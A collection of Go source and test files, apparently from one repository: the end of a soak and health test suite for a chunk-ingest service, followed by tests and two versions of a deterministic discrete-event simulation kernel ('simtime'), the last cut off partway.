						ord-- // deliberate duplicate
					}
				case 5:
					ord += 2 // deliberate ordering violation
				}
				submitted.Add(1)
				ai, err := svc.Accept(name, ord, payload)
				if err == nil && !ai.Dup {
					next = ai.Next
				}
				// Rejections and protocol errors are expected under
				// pressure; the ledger must have classified them.
			}
		}(w)
	}
	wg.Wait()
	close(stop)
	if err, _ := checkerErr.Load().(error); err != nil {
		t.Fatal(err)
	}
	if checks.Load() == 0 {
		t.Fatal("invariant checker never ran")
	}

	counts := svc.Counts()
	checkLedger(t, svc)
	if counts.Submitted != uint64(submitted.Load()) {
		t.Fatalf("ledger submitted %d, clients submitted %d", counts.Submitted, submitted.Load())
	}
	if counts.Shed[serve.ShedOverload] == 0 {
		t.Fatalf("soak never triggered overload shedding: %+v", counts)
	}
	if counts.Rejected == 0 || counts.Duplicate == 0 {
		t.Fatalf("soak missed a classification: %+v", counts)
	}
	// Spool usage stays within budget + one in-flight chunk per writer:
	// memory and disk are bounded under sustained overload.
	var live int64
	for _, status := range svc.Streams() {
		if status.State == serve.StateOpen {
			live += status.Bytes
		}
	}
	if max := int64(192<<10) + writers*int64(len(payload)); live > max {
		t.Fatalf("live spool %d exceeds budget bound %d", live, max)
	}
}

func TestHealthTransitionsAndDrain(t *testing.T) {
	svc := openService(t, t.TempDir(), func(c *serve.Config) {
		c.ShedWindow = time.Hour // keep the shed visible for the assertion
	})
	if h := svc.Health(); h != httpexport.HealthOK {
		t.Fatalf("fresh service health = %q", h)
	}

	// A protocol violation at finish sheds the stream → degraded.
	if _, err := svc.Hello(serve.StreamMeta{Name: "bad", Evals: true, Quick: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Accept("bad", 0, []byte("xx")); err != nil {
		t.Fatal(err)
	}
	err := svc.Finish("bad", 5, 999)
	var pe *serve.ProtocolError
	if !errors.As(err, &pe) {
		t.Fatalf("mismatched finish = %v, want ProtocolError", err)
	}
	if h := svc.Health(); h != httpexport.HealthDegraded {
		t.Fatalf("health after shed = %q, want degraded", h)
	}
	counts := svc.Counts()
	if counts.Shed[serve.ShedProtocol] != 1 {
		t.Fatalf("protocol shed not accounted: %+v", counts)
	}
	checkLedger(t, svc)

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := svc.Drain(ctx); err != nil {
		t.Fatal(err)
	}
	if h := svc.Health(); h != httpexport.HealthDraining {
		t.Fatalf("health after drain = %q, want draining", h)
	}
	// Drained service rejects new work with a retry hint.
	_, err = svc.Hello(serve.StreamMeta{Name: "late", Evals: true})
	var re *serve.RejectError
	if !errors.As(err, &re) || re.RetryAfter <= 0 {
		t.Fatalf("hello while draining = %v, want RejectError with Retry-After", err)
	}
}

func TestAdmissionControlRejectsBeyondMaxStreams(t *testing.T) {
	svc := openService(t, t.TempDir(), func(c *serve.Config) {
		c.MaxStreams = 1
	})
	defer svc.Close()
	if _, err := svc.Hello(serve.StreamMeta{Name: "one", Evals: true}); err != nil {
		t.Fatal(err)
	}
	_, err := svc.Hello(serve.StreamMeta{Name: "two", Evals: true})
	var re *serve.RejectError
	if !errors.As(err, &re) || re.RetryAfter <= 0 {
		t.Fatalf("hello past MaxStreams = %v, want RejectError", err)
	}
	// Rejected hello carries no chunks; ledger untouched.
	if got := svc.Counts().Submitted; got != 0 {
		t.Fatalf("hello reject booked %d chunks", got)
	}
}

func BenchmarkServeIngest(b *testing.B) {
	// The durable-ack hot path: one spool append + fsync, one ack-line
	// append + fsync per chunk. MB/s here is what a single lock-step
	// uploader sees; BENCH_serve.json pins it against regression.
	//
	// The service dir goes on tmpfs when the host has one: on a disk,
	// fsync latency swamps the code path under measurement and varies
	// 2-3x run to run with unrelated IO, which no regression gate can
	// hold. tmpfs keeps the full durable call sequence (two fsyncs per
	// chunk) while making the number about this package's code.
	dir := b.TempDir()
	if fi, err := os.Stat("/dev/shm"); err == nil && fi.IsDir() {
		shm, err := os.MkdirTemp("/dev/shm", "serve-bench-")
		if err == nil {
			b.Cleanup(func() { os.RemoveAll(shm) })
			dir = shm
		}
	}
	svc := openService(b, dir, func(c *serve.Config) {
		c.MaxSpoolBytes = 1 << 40
	})
	defer svc.Close()
	if _, err := svc.Hello(serve.StreamMeta{Name: "bench", Evals: true, Quick: true}); err != nil {
		b.Fatal(err)
	}
	payload := bytes.Repeat([]byte{0x5A}, 64<<10)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := svc.Accept("bench", uint32(i), payload); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if err := svc.Counts().Check(); err != nil {
		b.Fatal(err)
	}
}
