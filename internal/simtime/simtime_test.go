package simtime

import (
	"errors"
	"math/rand"
	"testing"
	"testing/quick"
	"time"
)

func TestScheduleRunsInTimeOrder(t *testing.T) {
	s := New(1)
	var got []time.Duration
	for _, d := range []time.Duration{30, 10, 20, 10, 0} {
		d := d
		if _, err := s.Schedule(d*time.Millisecond, func() {
			got = append(got, s.Now())
		}); err != nil {
			t.Fatalf("Schedule(%v): %v", d, err)
		}
	}
	if n := s.Run(); n != 5 {
		t.Fatalf("Run executed %d events, want 5", n)
	}
	want := []time.Duration{0, 10 * time.Millisecond, 10 * time.Millisecond, 20 * time.Millisecond, 30 * time.Millisecond}
	if len(got) != len(want) {
		t.Fatalf("got %d events, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("event %d at %v, want %v", i, got[i], want[i])
		}
	}
}

func TestEqualTimeEventsRunInScheduleOrder(t *testing.T) {
	s := New(1)
	var order []int
	for i := 0; i < 10; i++ {
		i := i
		s.MustSchedule(time.Second, func() { order = append(order, i) })
	}
	s.Run()
	for i, v := range order {
		if v != i {
			t.Fatalf("order[%d] = %d; equal-time events must run FIFO", i, v)
		}
	}
}

func TestNegativeDelayRejected(t *testing.T) {
	s := New(1)
	if _, err := s.Schedule(-time.Nanosecond, func() {}); err == nil {
		t.Fatal("negative delay accepted")
	}
}

func TestScheduleAtPastRejected(t *testing.T) {
	s := New(1)
	s.MustSchedule(time.Second, func() {})
	s.Run()
	if _, err := s.ScheduleAt(500*time.Millisecond, func() {}); err == nil {
		t.Fatal("past ScheduleAt accepted")
	}
}

func TestNilHandlerRejected(t *testing.T) {
	s := New(1)
	if _, err := s.Schedule(0, nil); err == nil {
		t.Fatal("nil handler accepted")
	}
}

func TestCancel(t *testing.T) {
	s := New(1)
	ran := false
	id := s.MustSchedule(time.Second, func() { ran = true })
	if !s.Cancel(id) {
		t.Fatal("first Cancel reported false")
	}
	if s.Cancel(id) {
		t.Fatal("second Cancel reported true")
	}
	s.Run()
	if ran {
		t.Fatal("cancelled event ran")
	}
}

func TestRunUntilAdvancesClockToDeadline(t *testing.T) {
	s := New(1)
	s.MustSchedule(3*time.Second, func() {})
	n := s.RunUntil(2 * time.Second)
	if n != 0 {
		t.Fatalf("executed %d events before deadline, want 0", n)
	}
	if s.Now() != 2*time.Second {
		t.Fatalf("Now() = %v, want 2s", s.Now())
	}
	n = s.RunUntil(4 * time.Second)
	if n != 1 {
		t.Fatalf("executed %d events in second window, want 1", n)
	}
}

func TestStopHaltsRun(t *testing.T) {
	s := New(1)
	count := 0
	for i := 1; i <= 100; i++ {
		s.MustSchedule(time.Duration(i)*time.Millisecond, func() {
			count++
			if count == 10 {
				s.Stop()
			}
		})
	}
	s.Run()
	if count != 10 {
		t.Fatalf("ran %d events after Stop, want 10", count)
	}
	// Run may be resumed afterwards.
	s.Run()
	if count != 100 {
		t.Fatalf("resume ran to %d, want 100", count)
	}
}

func TestEventsScheduledDuringRunExecute(t *testing.T) {
	s := New(1)
	var order []string
	s.MustSchedule(time.Second, func() {
		order = append(order, "a")
		s.MustSchedule(time.Second, func() { order = append(order, "b") })
	})
	s.Run()
	if len(order) != 2 || order[0] != "a" || order[1] != "b" {
		t.Fatalf("order = %v", order)
	}
	if s.Now() != 2*time.Second {
		t.Fatalf("Now() = %v, want 2s", s.Now())
	}
}

func TestStreamsDeterministicAndIndependent(t *testing.T) {
	a := New(42)
	b := New(42)
	for i := 0; i < 100; i++ {
		if a.Stream("x").Int63() != b.Stream("x").Int63() {
			t.Fatal("same seed and stream name diverged")
		}
	}
	c := New(42)
	d := New(42)
	// Consuming from stream "y" must not perturb stream "x".
	for i := 0; i < 50; i++ {
		c.Stream("y").Int63()
	}
	for i := 0; i < 100; i++ {
		if c.Stream("x").Int63() != d.Stream("x").Int63() {
			t.Fatal("stream x perturbed by use of stream y")
		}
	}
}

func TestStreamDifferentNamesDiffer(t *testing.T) {
	s := New(7)
	same := true
	for i := 0; i < 10; i++ {
		if s.Stream("alpha").Int63() != s.Stream("beta").Int63() {
			same = false
		}
	}
	if same {
		t.Fatal("streams alpha and beta produced identical sequences")
	}
}

func TestTicker(t *testing.T) {
	s := New(1)
	ticks := 0
	tk, err := s.NewTicker(100*time.Millisecond, func() { ticks++ })
	if err != nil {
		t.Fatal(err)
	}
	s.RunUntil(time.Second)
	if ticks != 10 {
		t.Fatalf("got %d ticks in 1s at 100ms period, want 10", ticks)
	}
	tk.Stop()
	tk.Stop() // idempotent
	s.RunUntil(2 * time.Second)
	if ticks != 10 {
		t.Fatalf("ticker fired after Stop: %d", ticks)
	}
}

func TestTickerBadPeriod(t *testing.T) {
	s := New(1)
	if _, err := s.NewTicker(0, func() {}); err == nil {
		t.Fatal("zero period accepted")
	}
	if _, err := s.NewTicker(-time.Second, func() {}); err == nil {
		t.Fatal("negative period accepted")
	}
}

func TestPendingCount(t *testing.T) {
	s := New(1)
	id := s.MustSchedule(time.Second, func() {})
	s.MustSchedule(2*time.Second, func() {})
	if got := s.Pending(); got != 2 {
		t.Fatalf("Pending() = %d, want 2", got)
	}
	s.Cancel(id)
	if got := s.Pending(); got != 1 {
		t.Fatalf("Pending() after cancel = %d, want 1", got)
	}
}

// Property: for any set of non-negative delays, execution order is a sorted
// permutation of the scheduled times.
func TestPropertyExecutionOrderSorted(t *testing.T) {
	f := func(raw []uint16) bool {
		s := New(99)
		var got []Time
		for _, d := range raw {
			at := time.Duration(d) * time.Microsecond
			s.MustSchedule(at, func() { got = append(got, s.Now()) })
		}
		s.Run()
		if len(got) != len(raw) {
			return false
		}
		for i := 1; i < len(got); i++ {
			if got[i] < got[i-1] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: identical seeds replay identical event counts and final clocks
// for a randomized workload built from the seed itself.
func TestPropertyDeterministicReplay(t *testing.T) {
	run := func(seed int64) (uint64, Time) {
		s := New(seed)
		r := rand.New(rand.NewSource(seed))
		var load func()
		depth := 0
		load = func() {
			if depth > 500 {
				return
			}
			depth++
			n := r.Intn(3)
			for i := 0; i < n; i++ {
				s.MustSchedule(time.Duration(r.Intn(1000))*time.Millisecond, load)
			}
		}
		for i := 0; i < 10; i++ {
			s.MustSchedule(time.Duration(r.Intn(100))*time.Millisecond, load)
		}
		n := s.Run()
		return n, s.Now()
	}
	f := func(seed int64) bool {
		n1, t1 := run(seed)
		n2, t2 := run(seed)
		return n1 == n2 && t1 == t2
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkScheduleRun(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s := New(1)
		for j := 0; j < 1000; j++ {
			s.MustSchedule(time.Duration(j%97)*time.Millisecond, func() {})
		}
		s.Run()
	}
}

func TestMustSchedulePanicsOnNegative(t *testing.T) {
	s := New(1)
	defer func() {
		if recover() == nil {
			t.Fatal("MustSchedule accepted a negative delay")
		}
	}()
	s.MustSchedule(-time.Second, func() {})
}

func TestSeedAndProcessedAccessors(t *testing.T) {
	s := New(77)
	if s.Seed() != 77 {
		t.Fatalf("Seed() = %d", s.Seed())
	}
	s.MustSchedule(0, func() {})
	s.MustSchedule(0, func() {})
	s.Run()
	if s.Processed() != 2 {
		t.Fatalf("Processed() = %d", s.Processed())
	}
}

func TestStepExecutesSingleEvent(t *testing.T) {
	s := New(1)
	ran := 0
	s.MustSchedule(time.Second, func() { ran++ })
	s.MustSchedule(2*time.Second, func() { ran++ })
	if !s.Step() || ran != 1 {
		t.Fatalf("first Step ran %d events", ran)
	}
	if s.Now() != time.Second {
		t.Fatalf("Now() = %v after first step", s.Now())
	}
	if !s.Step() || ran != 2 {
		t.Fatal("second Step failed")
	}
	if s.Step() {
		t.Fatal("Step on empty queue reported work")
	}
}

func TestStepSkipsCancelled(t *testing.T) {
	s := New(1)
	id := s.MustSchedule(time.Second, func() { t.Fatal("cancelled event ran") })
	s.Cancel(id)
	ran := false
	s.MustSchedule(2*time.Second, func() { ran = true })
	if !s.Step() || !ran {
		t.Fatal("Step did not skip the cancelled event")
	}
}

func TestRunUntilReentryPanics(t *testing.T) {
	s := New(1)
	s.MustSchedule(time.Second, func() {
		defer func() {
			if recover() == nil {
				t.Fatal("re-entrant RunUntil did not panic")
			}
		}()
		s.RunUntil(2 * time.Second)
	})
	s.Run()
}

func TestInterruptHaltsRun(t *testing.T) {
	s := New(1)
	// A self-perpetuating event chain: without an interrupt this would
	// run forever (or to the deadline).
	var reschedule func()
	ran := 0
	reschedule = func() {
		ran++
		s.MustSchedule(time.Millisecond, reschedule)
	}
	s.MustSchedule(time.Millisecond, reschedule)
	stop := errors.New("stop")
	checks := 0
	s.SetInterrupt(func() error {
		checks++
		if checks > 3 {
			return stop
		}
		return nil
	})
	s.RunUntil(time.Hour)
	if s.Interrupted() == nil {
		t.Fatal("interrupt did not fire")
	}
	if !errors.Is(s.Interrupted(), stop) {
		t.Fatalf("Interrupted() = %v, want %v", s.Interrupted(), stop)
	}
	if ran == 0 || s.Now() >= time.Hour {
		t.Fatalf("run halted wrong: ran=%d now=%v", ran, s.Now())
	}
	// An interrupted sim stays halted: later runs execute nothing and do
	// not advance the clock.
	before := s.Now()
	if n := s.RunUntil(2 * time.Hour); n != 0 {
		t.Fatalf("interrupted sim executed %d more events", n)
	}
	if s.Now() != before {
		t.Fatalf("interrupted sim advanced clock %v -> %v", before, s.Now())
	}
}

func TestInterruptNilCheckIsIdentical(t *testing.T) {
	run := func(install bool) (uint64, Time) {
		s := New(7)
		var tick func()
		left := 5000
		tick = func() {
			if left--; left > 0 {
				s.MustSchedule(time.Millisecond, tick)
			}
		}
		s.MustSchedule(time.Millisecond, tick)
		if install {
			s.SetInterrupt(func() error { return nil })
		}
		n := s.RunUntil(10 * time.Second)
		return n, s.Now()
	}
	n1, t1 := run(false)
	n2, t2 := run(true)
	if n1 != n2 || t1 != t2 {
		t.Fatalf("nil-returning interrupt perturbed the run: (%d,%v) vs (%d,%v)", n1, t1, n2, t2)
	}
}
