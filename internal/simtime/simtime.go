// Package simtime provides the deterministic discrete-event simulation
// kernel that every substrate in this repository runs on: a virtual clock,
// an event heap ordered by (time, sequence), and named deterministic random
// streams.
//
// Each Sim is deliberately single-threaded. Determinism is a design goal
// of the evaluation methodology this repository reproduces — the paper's
// scorecard requires "observable, reproducible, quantifiable" metrics, and
// a virtual-time simulation with seedable RNG streams makes every
// experiment exactly repeatable. Parallelism in the modeled systems (for
// example multiple IDS sensors) is expressed as capacity inside the model;
// parallelism in the measurement harness happens across independent
// simulations, each owning its own Sim — and, for one large topology,
// across the fixed event domains of a ShardedSim (see sharded.go), which
// advances many Sims in lockstep conservative lookahead windows while
// keeping results byte-identical for any executor count.
package simtime

import (
	"errors"
	"fmt"
	"math/rand"
	"time"
)

// Time is virtual time measured from the start of the simulation.
// It is a time.Duration so that the arithmetic and formatting of the
// standard library apply directly.
type Time = time.Duration

// Handler is a scheduled action. It runs at its scheduled virtual time.
type Handler func()

// event is one entry in the pending-event heap. Executed and cancelled
// events are recycled through the Sim's freelist, so a high-rate
// simulation reuses a small set of event structs instead of allocating
// one per scheduled action; gen distinguishes incarnations so a stale
// EventID can never cancel the struct's next occupant.
type event struct {
	at   Time
	seq  uint64 // tie-break so equal-time events run in schedule order
	fn   Handler
	dead bool   // cancelled
	idx  int    // heap index, maintained by eventHeap
	gen  uint64 // incarnation counter for recycled events
}

// eventHeap is a hand-rolled 4-ary min-heap ordered by (at, seq). The
// ordering is a strict total order (seq is unique), so the pop sequence
// is the sorted sequence regardless of heap arity or implementation —
// switching heap internals can never change simulation behaviour. The
// 4-ary layout halves the tree depth of a binary heap and the direct
// methods avoid container/heap's interface calls, which together make
// up a large share of the kernel's per-event cost.
type eventHeap []*event

func eventLess(a, b *event) bool {
	if a.at != b.at {
		return a.at < b.at
	}
	return a.seq < b.seq
}

// push inserts e, maintaining e.idx for Cancel.
func (h *eventHeap) push(e *event) {
	hh := append(*h, e)
	i := len(hh) - 1
	for i > 0 {
		p := (i - 1) / 4
		if !eventLess(e, hh[p]) {
			break
		}
		hh[i] = hh[p]
		hh[i].idx = i
		i = p
	}
	hh[i] = e
	e.idx = i
	*h = hh
}

// popMin removes and returns the earliest event.
func (h *eventHeap) popMin() *event {
	hh := *h
	e := hh[0]
	n := len(hh) - 1
	last := hh[n]
	hh[n] = nil
	*h = hh[:n]
	e.idx = -1
	if n > 0 {
		h.siftDown(last, 0)
	}
	return e
}

// siftDown sinks e from the hole at position i to its heap position.
func (h *eventHeap) siftDown(e *event, i int) {
	hh := *h
	n := len(hh)
	for {
		c := 4*i + 1
		if c >= n {
			break
		}
		m := c
		end := c + 4
		if end > n {
			end = n
		}
		for j := c + 1; j < end; j++ {
			if eventLess(hh[j], hh[m]) {
				m = j
			}
		}
		if !eventLess(hh[m], e) {
			break
		}
		hh[i] = hh[m]
		hh[i].idx = i
		i = m
	}
	hh[i] = e
	e.idx = i
}

// EventID identifies a scheduled event so it can be cancelled. It pins
// the event's incarnation, so an ID held across the event's execution
// stays a safe no-op even after the underlying struct is recycled.
type EventID struct {
	e   *event
	gen uint64
}

// Sim is a discrete-event simulation: a virtual clock plus a pending-event
// queue. The zero value is not usable; create one with New.
type Sim struct {
	now     Time
	seq     uint64
	pending eventHeap
	// live counts scheduled-but-not-cancelled events, maintained on
	// schedule/cancel/execute so Pending is O(1) instead of a heap scan.
	live int
	// free recycles executed/cancelled event structs for reuse by
	// ScheduleAt; its size is bounded by the peak pending-event count.
	free    []*event
	streams map[string]*rand.Rand
	seed    int64
	running bool
	stopped bool
	// Processed counts events executed since creation; useful both for
	// progress accounting and for loop-detection limits in tests.
	processed uint64
	// interrupt, when set, is consulted about every interruptStride
	// executed events during Run/RunUntil; a non-nil return halts the
	// run (see SetInterrupt).
	interrupt func() error
	intErr    error
}

// interruptStride is how many executed events pass between interrupt
// checks. The check is read-only with respect to simulation state (it
// never touches a random stream or the event heap), so as long as it
// keeps returning nil the simulation is bit-identical to one with no
// interrupt installed; the stride only bounds cancellation latency.
const interruptStride = 1024

// New creates a simulation whose random streams derive from seed.
func New(seed int64) *Sim {
	return &Sim{
		streams: make(map[string]*rand.Rand),
		seed:    seed,
	}
}

// Now returns the current virtual time.
func (s *Sim) Now() Time { return s.now }

// Seed returns the root seed the simulation was created with.
func (s *Sim) Seed() int64 { return s.seed }

// Processed returns the number of events executed so far.
func (s *Sim) Processed() uint64 { return s.processed }

// Pending returns the number of events currently scheduled. It is O(1):
// a live-event counter is maintained on schedule/cancel/execute, so
// progress heartbeats and stall watchdogs can poll it on large heaps
// without paying a linear scan.
func (s *Sim) Pending() int { return s.live }

// NextEventTime returns the virtual time of the earliest live pending
// event. Cancelled events at the head of the heap are retired in
// passing (they are observably gone already), so the returned time is
// exact, not a stale lower bound. ok is false when nothing is pending.
func (s *Sim) NextEventTime() (at Time, ok bool) {
	for len(s.pending) > 0 {
		head := s.pending[0]
		if head.dead {
			s.pending.popMin()
			s.release(head)
			continue
		}
		return head.at, true
	}
	return 0, false
}

// ErrPastTime is returned by ScheduleAt when the requested time is before
// the current virtual time.
var ErrPastTime = errors.New("simtime: schedule time is in the past")

// Schedule runs fn after delay of virtual time. A negative delay is an
// error; a zero delay runs fn after all events already scheduled for the
// current instant.
func (s *Sim) Schedule(delay Time, fn Handler) (EventID, error) {
	if delay < 0 {
		return EventID{}, fmt.Errorf("simtime: negative delay %v: %w", delay, ErrPastTime)
	}
	return s.ScheduleAt(s.now+delay, fn)
}

// MustSchedule is Schedule for callers that know delay is non-negative.
// It panics on error, which in a deterministic simulation indicates a
// programming bug rather than an environmental failure.
func (s *Sim) MustSchedule(delay Time, fn Handler) EventID {
	id, err := s.Schedule(delay, fn)
	if err != nil {
		panic(err)
	}
	return id
}

// ScheduleAt runs fn at absolute virtual time at.
func (s *Sim) ScheduleAt(at Time, fn Handler) (EventID, error) {
	if at < s.now {
		return EventID{}, fmt.Errorf("simtime: at=%v now=%v: %w", at, s.now, ErrPastTime)
	}
	if fn == nil {
		return EventID{}, errors.New("simtime: nil handler")
	}
	s.seq++
	var e *event
	if n := len(s.free); n > 0 {
		e = s.free[n-1]
		s.free[n-1] = nil
		s.free = s.free[:n-1]
		e.at, e.seq, e.fn = at, s.seq, fn
	} else {
		e = &event{at: at, seq: s.seq, fn: fn}
	}
	s.pending.push(e)
	s.live++
	return EventID{e: e, gen: e.gen}, nil
}

// release returns a popped event to the freelist, retiring every
// EventID issued for its current incarnation.
func (s *Sim) release(e *event) {
	e.fn = nil
	e.dead = false
	e.gen++
	s.free = append(s.free, e)
}

// Cancel removes a scheduled event. Cancelling an already-run or
// already-cancelled event is a no-op and reports false.
func (s *Sim) Cancel(id EventID) bool {
	e := id.e
	if e == nil || e.gen != id.gen || e.dead || e.idx < 0 {
		return false
	}
	e.dead = true
	s.live--
	return true
}

// Step executes the next pending event, advancing the clock to its time.
// It reports whether an event was executed.
func (s *Sim) Step() bool {
	for len(s.pending) > 0 {
		e := s.pending.popMin()
		if e.dead {
			s.release(e)
			continue
		}
		s.now = e.at
		s.processed++
		s.live--
		fn := e.fn
		s.release(e)
		fn()
		return true
	}
	return false
}

// Run executes events until the queue is empty or Stop is called.
// It returns the number of events executed.
func (s *Sim) Run() uint64 {
	return s.RunUntil(1<<62 - 1)
}

// RunUntil executes events with time <= deadline, then advances the clock
// to deadline (if the simulation got that far without emptying early it
// still advances, so repeated RunUntil calls form contiguous windows).
// It returns the number of events executed during this call.
func (s *Sim) RunUntil(deadline Time) uint64 {
	if s.running {
		panic("simtime: RunUntil re-entered from inside an event handler")
	}
	if s.intErr != nil {
		return 0
	}
	s.running = true
	s.stopped = false
	defer func() { s.running = false }()

	var n uint64
	for len(s.pending) > 0 && !s.stopped {
		// The stride counts events executed during THIS call (not the
		// lifetime total), so the first check fires on entry and every
		// call's cancellation latency is bounded by one stride — a
		// windowed RunUntil resumed mid-stride can never inherit a
		// nearly-elapsed stride from the previous window.
		if s.interrupt != nil && n%interruptStride == 0 {
			if err := s.interrupt(); err != nil {
				s.intErr = err
				break
			}
		}
		next := s.pending[0]
		if next.dead {
			s.pending.popMin()
			s.release(next)
			continue
		}
		if next.at > deadline {
			break
		}
		s.pending.popMin()
		s.now = next.at
		s.processed++
		s.live--
		fn := next.fn
		s.release(next)
		fn()
		n++
	}
	if !s.stopped && s.intErr == nil && s.now < deadline && deadline < 1<<62-1 {
		s.now = deadline
	}
	return n
}

// Stop halts the currently running Run/RunUntil after the current event
// handler returns. It may only be called from inside an event handler.
func (s *Sim) Stop() { s.stopped = true }

// SetInterrupt installs a cancellation check consulted about every
// interruptStride executed events during Run/RunUntil. When check
// returns a non-nil error the run halts where it stands, the error is
// retained, and every later Run/RunUntil returns immediately; callers
// observe the abort through Interrupted. A nil check uninstalls.
//
// The check runs on the simulation's own goroutine and must be cheap
// and side-effect-free with respect to simulation state: the intended
// use is ctx.Err plus a wall-clock heartbeat for an external watchdog.
// While check returns nil the simulation's behaviour is bit-identical
// to one with no interrupt installed.
func (s *Sim) SetInterrupt(check func() error) { s.interrupt = check }

// Interrupted returns the error that halted the simulation via the
// interrupt check, or nil if no interrupt has fired. Once set it stays
// set: an interrupted simulation's partial state is not a valid
// experiment result and must not be scored.
func (s *Sim) Interrupted() error { return s.intErr }

// Stream returns the named deterministic random stream, creating it on
// first use. Distinct names give independent streams; the same (seed, name)
// pair always yields the same sequence, so adding a new consumer of
// randomness does not perturb existing ones.
func (s *Sim) Stream(name string) *rand.Rand {
	r, ok := s.streams[name]
	if !ok {
		r = rand.New(rand.NewSource(s.seed ^ hashName(name)))
		s.streams[name] = r
	}
	return r
}

// hashName is FNV-1a, inlined to avoid importing hash/fnv for eight lines.
func hashName(name string) int64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	var h uint64 = offset64
	for i := 0; i < len(name); i++ {
		h ^= uint64(name[i])
		h *= prime64
	}
	return int64(h)
}

// Ticker repeatedly schedules a handler at a fixed virtual-time period
// until stopped. Unlike time.Ticker it is driven entirely by the Sim.
type Ticker struct {
	sim    *Sim
	period Time
	fn     Handler
	id     EventID
	live   bool
}

// NewTicker starts a ticker whose first tick fires one period from now.
// period must be positive.
func (s *Sim) NewTicker(period Time, fn Handler) (*Ticker, error) {
	if period <= 0 {
		return nil, fmt.Errorf("simtime: ticker period %v must be positive", period)
	}
	t := &Ticker{sim: s, period: period, fn: fn, live: true}
	t.arm()
	return t, nil
}

func (t *Ticker) arm() {
	t.id = t.sim.MustSchedule(t.period, func() {
		if !t.live {
			return
		}
		t.fn()
		if t.live {
			t.arm()
		}
	})
}

// Stop prevents future ticks. It is idempotent.
func (t *Ticker) Stop() {
	if !t.live {
		return
	}
	t.live = false
	t.sim.Cancel(t.id)
}
