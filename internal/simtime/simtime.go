// Package simtime provides the deterministic discrete-event simulation
// kernel that every substrate in this repository runs on: a virtual clock,
// an event heap ordered by (time, sequence), and named deterministic random
// streams.
//
// The kernel is deliberately single-threaded. Determinism is a design goal
// of the evaluation methodology this repository reproduces — the paper's
// scorecard requires "observable, reproducible, quantifiable" metrics, and
// a virtual-time simulation with seedable RNG streams makes every
// experiment exactly repeatable. Parallelism in the modeled systems (for
// example multiple IDS sensors) is expressed as capacity inside the model;
// parallelism in the measurement harness happens across independent
// simulations, each owning its own Sim.
package simtime

import (
	"container/heap"
	"errors"
	"fmt"
	"math/rand"
	"time"
)

// Time is virtual time measured from the start of the simulation.
// It is a time.Duration so that the arithmetic and formatting of the
// standard library apply directly.
type Time = time.Duration

// Handler is a scheduled action. It runs at its scheduled virtual time.
type Handler func()

// event is one entry in the pending-event heap.
type event struct {
	at   Time
	seq  uint64 // tie-break so equal-time events run in schedule order
	fn   Handler
	dead bool // cancelled
	idx  int  // heap index, maintained by eventHeap
}

// eventHeap implements container/heap ordered by (at, seq).
type eventHeap []*event

func (h eventHeap) Len() int { return len(h) }

func (h eventHeap) Less(i, j int) bool {
	if h[i].at != h[j].at {
		return h[i].at < h[j].at
	}
	return h[i].seq < h[j].seq
}

func (h eventHeap) Swap(i, j int) {
	h[i], h[j] = h[j], h[i]
	h[i].idx = i
	h[j].idx = j
}

func (h *eventHeap) Push(x any) {
	e := x.(*event)
	e.idx = len(*h)
	*h = append(*h, e)
}

func (h *eventHeap) Pop() any {
	old := *h
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	e.idx = -1
	*h = old[:n-1]
	return e
}

// EventID identifies a scheduled event so it can be cancelled.
type EventID struct {
	e *event
}

// Sim is a discrete-event simulation: a virtual clock plus a pending-event
// queue. The zero value is not usable; create one with New.
type Sim struct {
	now     Time
	seq     uint64
	pending eventHeap
	streams map[string]*rand.Rand
	seed    int64
	running bool
	stopped bool
	// Processed counts events executed since creation; useful both for
	// progress accounting and for loop-detection limits in tests.
	processed uint64
}

// New creates a simulation whose random streams derive from seed.
func New(seed int64) *Sim {
	return &Sim{
		streams: make(map[string]*rand.Rand),
		seed:    seed,
	}
}

// Now returns the current virtual time.
func (s *Sim) Now() Time { return s.now }

// Seed returns the root seed the simulation was created with.
func (s *Sim) Seed() int64 { return s.seed }

// Processed returns the number of events executed so far.
func (s *Sim) Processed() uint64 { return s.processed }

// Pending returns the number of events currently scheduled.
func (s *Sim) Pending() int {
	n := 0
	for _, e := range s.pending {
		if !e.dead {
			n++
		}
	}
	return n
}

// ErrPastTime is returned by ScheduleAt when the requested time is before
// the current virtual time.
var ErrPastTime = errors.New("simtime: schedule time is in the past")

// Schedule runs fn after delay of virtual time. A negative delay is an
// error; a zero delay runs fn after all events already scheduled for the
// current instant.
func (s *Sim) Schedule(delay Time, fn Handler) (EventID, error) {
	if delay < 0 {
		return EventID{}, fmt.Errorf("simtime: negative delay %v: %w", delay, ErrPastTime)
	}
	return s.ScheduleAt(s.now+delay, fn)
}

// MustSchedule is Schedule for callers that know delay is non-negative.
// It panics on error, which in a deterministic simulation indicates a
// programming bug rather than an environmental failure.
func (s *Sim) MustSchedule(delay Time, fn Handler) EventID {
	id, err := s.Schedule(delay, fn)
	if err != nil {
		panic(err)
	}
	return id
}

// ScheduleAt runs fn at absolute virtual time at.
func (s *Sim) ScheduleAt(at Time, fn Handler) (EventID, error) {
	if at < s.now {
		return EventID{}, fmt.Errorf("simtime: at=%v now=%v: %w", at, s.now, ErrPastTime)
	}
	if fn == nil {
		return EventID{}, errors.New("simtime: nil handler")
	}
	s.seq++
	e := &event{at: at, seq: s.seq, fn: fn}
	heap.Push(&s.pending, e)
	return EventID{e: e}, nil
}

// Cancel removes a scheduled event. Cancelling an already-run or
// already-cancelled event is a no-op and reports false.
func (s *Sim) Cancel(id EventID) bool {
	e := id.e
	if e == nil || e.dead || e.idx < 0 {
		return false
	}
	e.dead = true
	return true
}

// Step executes the next pending event, advancing the clock to its time.
// It reports whether an event was executed.
func (s *Sim) Step() bool {
	for len(s.pending) > 0 {
		e := heap.Pop(&s.pending).(*event)
		if e.dead {
			continue
		}
		s.now = e.at
		s.processed++
